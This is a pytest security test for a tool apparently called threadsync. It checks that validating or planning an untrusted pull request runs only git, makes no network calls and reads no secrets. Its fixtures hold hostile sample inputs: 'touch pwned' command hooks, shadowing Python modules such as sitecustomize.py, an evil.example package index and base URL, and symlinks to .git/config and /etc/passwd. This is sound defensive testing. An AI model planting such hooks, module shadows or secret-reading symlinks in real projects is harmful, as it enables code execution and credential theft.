"""What a pull request can reach: `validate` and `plan` are made for the files of strangers (docs/ci.md)."""

from __future__ import annotations

import ast
import os
import shutil
import subprocess
import sys
import sysconfig
import zoneinfo
from pathlib import Path

import pytest

from tests.live.forge import Forge, git
from tests.live.projects import ENVIRON, ROOT
from threadsync.sandbox.server import Sandbox

pytestmark = [
    pytest.mark.live,
    pytest.mark.skipif(shutil.which("git") is None, reason="not tested without git: a state in a branch"),
]

CANARY = "canary-4711"
PROJECT = """\
version: 1
id: hostile
state: {branch: threadsync-state}
database: env:CANARY
notify: {command: touch pwned}
safety: {apply_from: {branch: main, clean: true}}
targets:
  threads/main:
    account: main
    credentials: {main: "file:secrets/token", app_secret: env:CANARY}
    media_host: pwned
  bluesky/brand:
    account: brand.test
    credential: file:/etc/hostname
    base_url: https://evil.example
media_hosts:
  pwned: {kind: command, command: "touch pwned {file}"}
"""
POST = """\
---
key: post
targets: [threads/main, bluesky/brand]
media: [picture.png]
link: https://evil.example/card
---
Hello {{ links['post@bluesky/brand'] }}
"""
FILES = {
    # Python looks for modules in the folder that it is started in, and so would an installer.
    **{
        f"{name}.py": "open('pwned', 'w')\n"
        for name in ("threadsync", "yaml", "click", "sitecustomize", "json")
    },
    ".git-credentials": f"https://maria:{CANARY}@forge.test\n",
    "secrets/token": f"{CANARY}\n",
    "pip.conf": "[global]\nindex-url = https://evil.example\n",
    "setup.cfg": "[threadsync.providers]\nthreads = evil\n",
}


@pytest.fixture
def project(tmp_path: Path, sandbox: Sandbox) -> Path:
    """A checkout with a token in `.git/config`, as a CI makes it, of a pull request that wants it."""
    checkout = Forge.made(tmp_path, sandbox, {"one": "First"}).clone("runner")
    git(checkout, "config", "http.https://forge.test/.extraheader", f"AUTHORIZATION: basic {CANARY}")
    (checkout / "threadsync.yaml").write_text(PROJECT)
    for name, text in {**FILES, "posts/post.md": POST}.items():
        (checkout / name).parent.mkdir(exist_ok=True)
        (checkout / name).write_text(text)
    shutil.copy(next((ROOT / "examples/posts").rglob("*.png")), checkout / "posts/picture.png")
    (checkout / "posts/config.md").symlink_to("../.git/config")
    (checkout / "posts/passwd.md").symlink_to("/etc/passwd")
    return checkout


def watched(project: Path, *arguments: str) -> tuple[str, list[tuple[str, object]]]:
    """Run a command in *project*; return what it printed, and what it reached for."""
    log = project.parent / "log"
    log.unlink(missing_ok=True)
    done = subprocess.run(
        [sys.executable, "-P", "-m", "tests.live.as_watched", str(log), *arguments],
        env={**ENVIRON, "CANARY": CANARY},
        cwd=project,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode in {0, 1}, done.stderr
    lines = (line.split("\t", 1) for line in log.read_text().splitlines())
    reached = [(event, ast.literal_eval(what)) for event, what in lines if what.startswith(("'", '"', "b"))]
    return done.stdout + done.stderr, reached


def may_open(path: str, project: Path) -> bool:
    """Whether a file may be opened: the program's own, time zones, and what is not hidden in the project."""
    own = [ROOT / "threadsync", ROOT / "schema", ROOT / "tests", *map(Path, zoneinfo.TZPATH)]
    own += [Path(sysconfig.get_path(name)) for name in ("stdlib", "platstdlib", "purelib", "platlib", "data")]
    own += [Path(sys.base_prefix), project / ".threadsync", Path(os.devnull), Path("/proc/self")]
    if any(Path(path).is_relative_to(each) for each in own):
        return True
    whole = (project / path).resolve()
    inside = whole.is_relative_to(project.resolve())
    return inside and not any(part.startswith(".") for part in whole.relative_to(project.resolve()).parts)


@pytest.mark.parametrize(
    "arguments",
    [
        ("validate",),
        ("validate", "--format", "github"),
        ("plan",),
        *(("plan", "--no-cache", "--format", name) for name in ("json", "markdown", "html")),
    ],
    ids=" ".join,
)
def test_nothing_is_run_but_git_nobody_is_asked_and_no_secret_is_read(
    project: Path, arguments: tuple[str, ...]
) -> None:
    said, reached = watched(project, *arguments)
    assert "posts/config.md" in said
    assert CANARY not in said
    assert "root:" not in said
    assert not list(project.rglob("pwned"))
    started = {what for event, what in reached if event not in {"open", "socket.connect"}}
    assert started <= {"git"}
    assert not [what for event, what in reached if event == "socket.connect"]
    opened = {
        os.fsdecode(what) for event, what in reached if event == "open" and isinstance(what, str | bytes)
    }
    assert "secrets/token" not in {os.path.relpath(path, project) for path in opened}
    assert [path for path in sorted(opened) if not may_open(path, project)] == []
